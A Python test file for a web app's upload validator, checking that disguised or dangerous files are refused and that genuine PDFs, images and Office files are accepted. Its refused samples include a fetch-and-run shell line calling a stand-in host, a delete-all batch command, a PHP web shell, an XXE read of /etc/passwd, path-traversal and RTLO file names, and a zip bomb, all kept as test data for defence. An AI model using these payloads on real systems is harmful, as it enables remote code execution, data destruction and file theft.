"""Files that are not what they say, made here one by one: what each is taken for decides whether it is kept."""

from __future__ import annotations

import gzip
import lzma
import tarfile
import zlib
from base64 import b64encode
from collections.abc import Mapping
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZIP_STORED, ZipFile, ZipInfo

import pytest

from tests.kota import Kota
from webapp.operations import Refused
from webapp.services import files
from webapp.services.files import Upload, keep, kind_of
from webapp.storage.berkas import TERBESAR

PDF, JPEG, PNG = "application/pdf", "image/jpeg", "image/png"
OFFICE = "application/vnd.openxmlformats-officedocument."
WORD = OFFICE + "wordprocessingml.document"
SHEET = OFFICE + "spreadsheetml.sheet"
SLIDES = OFFICE + "presentationml.presentation"
TYPES = "[Content_Types].xml"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def packed(parts: Mapping[str, bytes], method: int = ZIP_DEFLATED) -> bytes:
    """A packed file with these parts, whatever they are called."""
    made = BytesIO()
    with ZipFile(made, "w", method) as archive:
        for name, content in parts.items():
            archive.writestr(ZipInfo(name), content, method)
    return made.getvalue()


def office(*more: str, main: str = "word/document.xml", **held: bytes) -> bytes:
    """An office document with its main part and these others."""
    return packed({TYPES: b"<Types/>", main: b"<x/>", **dict.fromkeys(more, b"x"), **held})


def locked(content: bytes) -> bytes:
    """The same packed file, whose parts claim to be under a password."""
    return content.replace(b"PK\x03\x04\x14\x00\x00", b"PK\x03\x04\x14\x00\x01")


def archived() -> bytes:
    made = BytesIO()
    with tarfile.open(fileobj=made, mode="w") as archive:
        archive.addfile(tarfile.TarInfo("../../etc/passwd"))
    return made.getvalue()


DOCX = office()
REFUSED: Mapping[str, bytes] = {
    "nothing": b"",
    "one byte": b"%",
    "a program of Windows": b"MZ\x90\x00" + b"\0" * 60,
    "a program of Linux": b"\x7fELF\x02\x01\x01",
    "a program of a Mac": b"\xcf\xfa\xed\xfe",
    "a class of Java": b"\xca\xfe\xba\xbe\x00\x00\x00\x34",
    "a script": b"#!/bin/sh\ncurl jahat.contoh | sh\n",
    "a batch file": b"@echo off\r\ndel *.*\r\n",
    "a page": b"<!doctype html><script>alert(1)</script>",
    "a page behind a mark of order": b"\xef\xbb\xbf<html><script>alert(1)</script>",
    "a drawing with a script": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "a document type that reads files": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
    "a style that transforms": b'<?xml-stylesheet href="x"?>',
    "PHP": b"<?php system($_GET[0]); ?>",
    "a picture of another kind": b"GIF89a" + b"\0" * 20,
    "a picture that is a script": b"GIF89a/*" + b"\0" * 4 + b"*/=alert(1);",
    "WebP": b"RIFF\x24\x00\x00\x00WEBPVP8 ",
    "TIFF": b"II*\x00\x08\x00\x00\x00",
    "BMP": b"BM" + b"\0" * 30,
    "an icon": b"\x00\x00\x01\x00\x01\x00",
    "a video": b"\x00\x00\x00\x18ftypmp42",
    "an old office document": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500,
    "rich text": rb"{\rtf1{\object\objocx}}",
    "PostScript": b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file",
    "a PDF behind rubbish": b"rubbish\n%PDF-1.7",
    "a PDF behind a blank": b" %PDF-1.7",
    "a PDF in small letters": b"%pdf-1.7",
    "a PNG without its line ends": b"\x89PNG\n\x1a\n",
    "half a JPEG mark": b"\xff\xd8",
    "the test of virus scanners": EICAR,
    "gzip": gzip.compress(b"%PDF-1.7"),
    "a bare stream": zlib.compress(b"%PDF-1.7"),
    "xz": lzma.compress(b"%PDF-1.7"),
    "tar with a way out": archived(),
    "7z": b"7z\xbc\xaf\x27\x1c\x00\x04",
    "rar": b"Rar!\x1a\x07\x01\x00",
    "a link of Windows": b"L\x00\x00\x00\x01\x14\x02\x00",
    "a PDF as text": b64encode(b"%PDF-1.7"),
    "the beginning of a packed file": b"PK\x03\x04",
    "an empty packed file": packed({}),
    "a packed file cut off": DOCX[: len(DOCX) // 2],
    "a packed file with a broken list": DOCX[:-10] + b"\xff" * 10,
    "a packed file of no program": packed({"a.txt": b"x"}),
    "an archive of Java": packed({"META-INF/MANIFEST.MF": b"x", "A.class": b"\xca\xfe\xba\xbe"}),
    "an app": packed({"AndroidManifest.xml": b"x", "classes.dex": b"dex"}),
    "an OpenDocument": packed({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"x"}),
    "an office folder without its list of kinds": packed({"word/document.xml": b"x"}),
    "a list of kinds without a document": packed({TYPES: b"<Types/>"}),
    "macros": office("word/vbaProject.bin"),
    "macros in capitals": office("word/VBAPROJECT.BIN"),
    "macros of a sheet in another folder": office("x/vbaProject.bin", main="xl/workbook.xml"),
    "signed macros": office("word/vbaProjectSignature.bin"),
    "data of macros": office("word/vbaData.xml"),
    "sheets of old macros": office("xl/macrosheets/sheet1.xml", main="xl/workbook.xml"),
    "controls": office("word/activeX/activeX1.xml"),
    "a packed object": office("word/embeddings/oleObject1.bin"),
    "a part that leads out": office("../../etc/cron.d/x"),
    "a part that leads out backwards": office("word\\..\\..\\x"),
    "a part of the root": office("/etc/passwd"),
    "a part of a drive": office("C:/Windows/x.dll"),
    "a part with a name that turns round": office("word/\u202excod.exe"),
    "very many parts": office(*(f"word/{nth}" for nth in range(files.MOST_PARTS + 1))),
}
TAKEN: Mapping[str, tuple[bytes, str]] = {
    "a PDF": (b"%PDF-1.7\n%%EOF", PDF),
    "a PDF that holds a script: kept as a file, never opened by us": (b"%PDF-1.7\n/OpenAction /JS", PDF),
    "a PDF that is a page as well: handed out as a file that nobody sniffs": (b"%PDF-<script>", PDF),
    "a PDF with a packed file behind it": (b"%PDF-1.7\n" + DOCX, PDF),
    "a photo": (b"\xff\xd8\xff\xe0\x00\x10JFIF", JPEG),
    "a photo with a page in its comment": (b"\xff\xd8\xff\xfe\x00\x20<script>alert(1)</script>", JPEG),
    "a picture": (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", PNG),
    "a picture of a giant": (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\xff" * 8, PNG),
    "Word": (DOCX, WORD),
    "Word, not pressed": (packed({TYPES: b"<Types/>", "word/document.xml": b"x"}, ZIP_STORED), WORD),
    "Word under a password for its parts": (locked(DOCX), WORD),
    "Word that unpacks to very much: never unpacked": (office(bomb=b"\0" * 20_000_000), WORD),
    "Excel": (office("xl/printerSettings/printerSettings1.bin", main="xl/workbook.xml"), SHEET),
    "PowerPoint": (office(main="ppt/presentation.xml"), SLIDES),
    "Word with Arabic names": (office("word/media/\u0635\u0648\u0631\u0629.png"), WORD),
}


def test_there_are_enough_of_them() -> None:
    assert len(REFUSED) >= 40
    assert len(set(REFUSED.values())) == len(REFUSED)


@pytest.mark.parametrize("name", REFUSED)
def test_what_is_none_of_our_kinds_is_none(name: str) -> None:
    assert kind_of(REFUSED[name]) is None


@pytest.mark.parametrize("name", TAKEN)
def test_what_is_taken_is_taken_for_what_its_bytes_say(name: str) -> None:
    content, kind = TAKEN[name]
    assert kind_of(content) == kind


def test_none_of_them_comes_into_the_house_under_any_name(city: Kota) -> None:
    with city.work.transaction() as tx:
        for nth, content in enumerate(REFUSED.values()):
            name = ("surat.pdf", "../../x.pdf", "foto.jpg\0.php", "laporan.docx")[nth % 4]
            with pytest.raises(Refused):
                keep(tx, city.actor("SR"), Upload(name, content), "bukti", kinds=files.EVIDENCE)
        with pytest.raises(Refused, match="paling besar"):
            keep(tx, city.actor("SR"), Upload("a.pdf", b"%PDF-" + b"x" * TERBESAR), "bukti")
        with pytest.raises(Refused, match="harus PDF"):
            keep(tx, city.actor("SR"), Upload("a.docx", DOCX), "bukti")
        row = keep(tx, city.actor("SR"), Upload("..\\..\n\u202egpj.exe", b"%PDF-1.7"), "bukti")
        assert (row.jenis_media, row.nama.isprintable()) == (PDF, True)
